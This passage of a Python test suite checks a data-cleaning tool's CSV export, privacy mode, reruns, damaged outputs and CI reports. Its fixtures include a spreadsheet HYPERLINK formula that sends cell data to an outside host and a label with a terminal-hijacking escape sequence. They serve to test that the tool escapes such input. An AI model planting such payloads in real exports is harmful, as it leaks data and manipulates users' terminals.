    starts = ['=HYPERLINK("http://example.org/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2", "plain,", '"quoted"']
    rows = [
        {"text": f"{start} {sentence(number, 'formula')}", "delta": -number, header: f"=A{number}"}
        for number, start in enumerate(starts)
    ]
    (folder / "answers.jsonl").write_text(lines(rows))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        done = again(folder, "export", "out", "--format", "csv")
        if done.returncode:
            return [f"export ended with {done.returncode}: {done.stderr[-300:]}"]
        wrong, cells = [], []
        for path in folder.rglob("*.csv"):
            with path.open(newline="", encoding="utf-8-sig") as file:
                table = list(csv.reader(file))
            cells += [cell for line in table for cell in line]
            if len(table) == 9 and any(len(line) != len(table[0]) for line in table):
                wrong.append(f"{path.name}: lines of different width")
        if not cells:
            return [f"no CSV was written: {done.stdout[-300:]}"]
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                wrong.append(f"a spreadsheet would run {cell[:40]!r}")
        for number in range(len(starts)):
            if not any(sentence(number, "formula") in cell for cell in cells):
                wrong.append(f"row {number} is missing in the CSV")
        return wrong

    return Right(
        args=["run", "--input", "answers.jsonl", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="the README promises formulas escaped in CSV; a header cell is a cell; negative numbers are no formulas",
    )


@case(kind="outputs and running again", sound=False)
def no_raw_with_addresses_everywhere(folder: Path) -> Right:
    """--no-raw for a ticket system: addresses in texts and as labels (the agent), and one broken line with an address."""
    (folder / "data").mkdir()
    agents = ["zelda.quirk@corp-intern.example", "bruno.vantage@corp-intern.example"]
    rows = [
        {
            "text": sentence(number, "noraw") + (f" Write to customer{number}@mailbox-private.example today." if number % 4 == 0 else ""),
            "label": agents[number % 2],
        }
        for number in range(300)
    ]
    body = lines(rows).splitlines(keepends=True)
    broken = '{"text": "Half a ticket of brokenline@mailbox-private.example, cut off by a cra\n'
    (folder / "data" / "tickets.jsonl").write_text("".join(body[:150]) + broken + "".join(body[150:]))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if refused(exit_code):
            return []
        out = folder / "out"
        whole = [rows[number]["text"] for number in (3, 4, 151, 299)]
        wrong = [f"printed: {secret}" for secret in ("@mailbox-private", "zelda.quirk@", "bruno.vantage@") if secret in stdout + stderr]
        for path in sorted(out.rglob("*")):
            where = path.relative_to(out)
            if not path.is_file() or where.parts[0] == "clean":
                continue
            if path.suffix == ".parquet":
                content = json.dumps(pq.ParquetFile(path).read().to_pylist(), ensure_ascii=False, default=repr)
            else:
                content = path.read_bytes().decode("utf-8", "replace")
            secrets = ["@mailbox-private", "Half a ticket of", *whole]
            if where.parts[0] not in ("rows", "quarantine"):
                secrets += ["zelda.quirk@", "bruno.vantage@"]
            wrong += [f"{where} holds {secret!r}" for secret in secrets if secret in content]
        return wrong

    return Right(
        args=["run", "--input", "data", "--label", "label", "--no-raw", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=1,
        refusal_is_fine=True,
        check=check,
        why="with --no-raw only clean/ holds raw text; names of classes are shortened in reports, logs and the tables beside",
    )


@case(kind="outputs and running again", sound=True)
def input_restored_from_a_backup(folder: Path) -> Right:
    """After a run the input is restored from a backup: the same size, an older time stamp; then the same command again."""
    newer = sentences(12, "backup")
    older = [" ".join(reversed(text.split())) for text in newer]
    path = folder / "data.jsonl"
    path.write_text(lines([{"text": text} for text in newer]))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if {row["text"] for row in clean_rows(folder)} != set(newer):
            return ["the first run did not keep the twelve rows"]
        path, stat = folder / "data.jsonl", (folder / "data.jsonl").stat()
        path.write_text(lines([{"text": text} for text in older]))
        os.utime(path, (stat.st_mtime - 86400 * 30, stat.st_mtime - 86400 * 30))
        if path.stat().st_size != stat.st_size:
            return ["the case is wrong: the sizes differ"]
        done = again(folder, "run", "--input", "data.jsonl", "--out", "out")
        if done.returncode in (2, 3) and done.stderr.strip() and "Traceback" not in done.stderr:
            return []
        if done.returncode or {row["text"] for row in clean_rows(folder)} != set(older):
            return [f"the second run ended with {done.returncode} and clean/ does not hold the restored rows"]
        return []

    return Right(
        args=["run", "--input", "data.jsonl", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="only the same input makes a rerun a no-op: another content with an older time is another input",
    )


@case(kind="outputs and running again", sound=True)
def clean_file_cut_after_the_run(folder: Path) -> Right:
    """A full disk or an aborted copy cut a file of clean/; then `export`, then the same command again."""
    rows = [{"text": text, "n": number} for number, text in enumerate(sentences(40, "damaged-out"))]
    (folder / "data.jsonl").write_text(lines(rows))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        tables = sorted((folder / "out" / "clean").rglob("*.parquet"))
        if not tables:
            return ["clean/ holds no Parquet file"]
        body = tables[0].read_bytes()
        tables[0].chmod(0o644)
        tables[0].write_bytes(body[: len(body) // 2])
        wrong = []
        exported = again(folder, "export", "out", "--format", "jsonl")
        found = [path for path in folder.rglob("*.jsonl") if path.name not in ("data.jsonl", "log.jsonl")]
        complete = sum(len(path.read_text().splitlines()) for path in found) == len(rows)
        if exported.returncode == 4 or "Traceback" in exported.stderr:
            wrong.append(f"export of a damaged clean/ failed as a bug: {exported.stderr[-300:]}")
        if exported.returncode == 0 and not complete:
            wrong.append("export of a damaged clean/ ended with 0 but is not complete")
        done = again(folder, "run", "--input", "data.jsonl", "--out", "out")
        if done.returncode == 0:
            try:
                kept = {row["text"] for row in clean_rows(folder)}
            except (OSError, pa.ArrowException) as error:
                return [*wrong, f"the rerun ended with 0 and clean/ is still damaged: {error}"]
            if kept != {row["text"] for row in rows}:
                wrong.append("the rerun ended with 0 and clean/ is not complete")
        elif done.returncode not in (2, 3) or "Traceback" in done.stderr:
            wrong.append(f"the rerun ended with {done.returncode}: {done.stderr[-300:]}")
        return wrong

    return Right(
        args=["run", "--input", "data.jsonl", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        timeout=300,
        why="the manifest has a SHA-256 of every table: a damaged output is made again or told, never passed on",
    )


@case(kind="outputs and running again", sound=True)
def gate_files_with_awkward_names(folder: Path) -> Right:
    """A gate in CI: blanks, umlauts, % and # in the file name; labels with terminal escapes and characters XML forbids."""
    (folder / "my data").mkdir()
    labels = ["\x1b]0;owned\x07calm", "an\x0bgry | <odd>"]
    rows = [{"text": text, "label": labels[number % 2]} for number, text in enumerate(sentences(20, "gate"))]
    (folder / "my data" / "größe 100% #1.jsonl").write_text(lines(rows + [rows[0]] * 6))

    def uris(value: object) -> Iterator[str]:
        if isinstance(value, dict):
            location = value.get("artifactLocation")
            if isinstance(location, dict) and isinstance(location.get("uri"), str):
                yield location["uri"]
            for item in value.values():
                yield from uris(item)
        elif isinstance(value, list):
            for item in value:
                yield from uris(item)

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        wrong = []
        try:
            sarif = json.loads((folder / "out" / "gate.sarif").read_text(encoding="utf-8"))
            for uri in set(uris(sarif)):
                if not re.fullmatch(r"(?:[A-Za-z0-9\-._~:/?@!$&'()*+,;=]|%[0-9A-Fa-f]{2})*", uri):
                    wrong.append(f"gate.sarif: {uri!r} is no URI")
        except (OSError, ValueError) as error:
            wrong.append(f"gate.sarif: {error}")
        try:
            ElementTree.parse(folder / "out" / "junit.xml")
        except (OSError, ElementTree.ParseError) as error:
            wrong.append(f"junit.xml: {error}")
        for name in ("summary.md", "report.html"):
            content = (folder / "out" / name).read_text(encoding="utf-8") if (folder / "out" / name).exists() else "\x1b"
            if "\x1b" in content:
                wrong.append(f"{name} is missing or holds a raw escape character")
        return wrong

    return Right(
        args=["run", "--input", "my data", "--label", "label", "--rules", "default", "--out", "out"],
        exit_codes={0, 1},
        rows=rows,
        quarantined=0,
        silent=["\x1b\\]0;"],
        check=check,
        why="the six copies are exact duplicates; SARIF wants URIs, JUnit wants XML, and a terminal must not obey a label",
    )


@case(kind="outputs and running again", sound=True)
def columns_named_like_those_of_the_tool(folder: Path) -> Right:
    """Rows of an earlier audit joined to the data and audited again: the columns have the names that the tool itself uses."""
    rows = [
        {
            "text": text, "row": f"old.jsonl:{number}", "file": "old.jsonl", "line": number + 1, "kept": number % 2 == 0,
            "dropped": number % 2 == 1, "fate": "kept", "reasons": ["exact-duplicate"] if number % 2 else [],
            "duplicate_of": None if number % 2 == 0 else f"old.jsonl:{number - 1}", "quality_score": number / 16,
            "quality_reasons": "none", "tokens": 100 + number, "label_suggested": "x", "label_issue_score": 0.25,
            "neighbour_agreement": 1.0, "cluster": -number, "row_id": 7000 - number, "__index_level_0__": number * 3,
            "": number * 5, " text": f"s{number}", "Text": f"T{number}", "a.b": number * 7, "a": {"b": number * 11},
        }
        for number, text in enumerate(sentences(10, "own-names"))
    ]
    (folder / "joined.jsonl").write_text(lines(rows))
    return Right(
        args=["run", "--input", "joined.jsonl", "--template", "{text}", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        why="clean/ has all original columns: a column of the user wins over one of the tool, or both are kept apart",
    )


@case(kind="outputs and running again", sound=True)
def quota_reached_then_resumed(folder: Path) -> Right:
    """The first run may write no file above 12 kB (`ulimit -f`, like a quota); then the same command without the limit."""
    rows = [{"text": text, "n": number} for number, text in enumerate(sentences(400, "quota"))]
    (folder / "data.jsonl").write_text(lines(rows))

    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (12_288, 12_288))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        wrong = ["a traceback was printed"] if "Traceback" in stderr else []
        done = again(folder, "run", "--input", "data.jsonl", "--out", "out")
        if done.returncode:
            return [*wrong, f"the rerun without the limit ended with {done.returncode}: {done.stderr[-300:]}"]
        kept = {(row["text"], row["n"]) for row in clean_rows(folder)}
        if kept != {(row["text"], row["n"]) for row in rows}:
            wrong.append(f"after the rerun clean/ holds {len(kept)} of 400 rows")
        try:
            json.loads((folder / "out" / "summary.json").read_text())
        except (OSError, ValueError) as error:
            wrong.append(f"summary.json after the rerun: {error}")
        return wrong

    return Right(
        args=["run", "--input", "data.jsonl", "--out", "out"],
        exit_codes={2, 3},
        check=check,
        timeout=300,
        # No .pyc files: under this limit CPython 3.11 would leave cut ones in the environment.
        env={"PYTHONDONTWRITEBYTECODE": "1", "HOME": "/nonexistent"},
        preexec=small_files,
        why="what cannot be written is told, not finished with 0; the rerun resumes or starts again and is complete",
    )
